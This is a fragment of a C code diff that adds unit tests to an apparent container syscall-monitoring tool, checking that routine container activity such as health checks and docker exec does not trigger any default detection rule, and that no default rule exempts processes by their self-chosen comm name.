+	{ .sc = "connect", .ip = "::1", .port = 8000, .proc = &p_bb_wget, AGE(2) },
+	{ .sc = "execve", .path = "/bin/sh", .extra = "sh /healthcheck.sh", .proc = &p_script_sh,
+	  AGE(40) },
+	/* docker exec c cat /etc/hostname: the runtime's set-up, then cat */
+	{ .sc = "setns", .a = { 5, 0 }, .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "capset", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "execve", .path = "/bin/cat", .extra = "cat /etc/hostname", .proc = &p_exec_cat,
+	  AGE(60) },
+	{ .sc = "openat", .path = "/etc/hostname", .proc = &p_exec_cat, AGE(60) },
+	{ .sc = "exit_group", .proc = &p_exec_cat, AGE(60) },
+	/* docker stop: the entrypoint gets SIGTERM from outside and exits */
+	{ .sc = "exit_group", .proc = &p_entry_sh, AGE(90) },
+};
+
+static void test_normal_life_quiet(void **state)
+{
+	const struct rule_set *rs = *state;
+
+	for (size_t i = 0; i < ARRAY_SIZE(normal_life); i++) {
+		struct built *b = build(&normal_life[i]);
+
+		for (size_t r = 0; r < rules__count(rs); r++) {
+			if (rule_matches(rules__get(rs, r), &b->v))
+				fail_msg("normal life %zu (%s %s): rule %s fired", i,
+					 normal_life[i].sc,
+					 normal_life[i].path ? normal_life[i].path : "",
+					 rule_name(rules__get(rs, r)));
+		}
+		free(b);
+	}
+}
+
+/* No default rule has an exception on comm: a process chooses its comm. */
+static void test_default_no_comm_exceptions(void **state)
+{
+	FILE *f = fopen(DEFAULT_RULES, "r");
+	char line[512];
+	int n = 0;
+
+	(void)state;
+	assert_non_null(f);
+	while (fgets(line, sizeof(line), f)) {
+		n++;
+		if (strstr(line, "comm:") || strstr(line, "runtime_setup"))
+			fail_msg("%s:%d: %s", DEFAULT_RULES, n, line);
+	}
+	fclose(f);
 }
 
 /* ---- rules check ---- */
@@ -1429,6 +1740,8 @@ int main(void)
 		cmocka_unit_test(test_default_actions),
 		cmocka_unit_test(test_default_kernel_specs),
 		cmocka_unit_test(test_render),
+		cmocka_unit_test(test_normal_life_quiet),
+		cmocka_unit_test(test_default_no_comm_exceptions),
 	};
 	const struct CMUnitTest check_tests[] = {
 		cmocka_unit_test(test_check_errors),
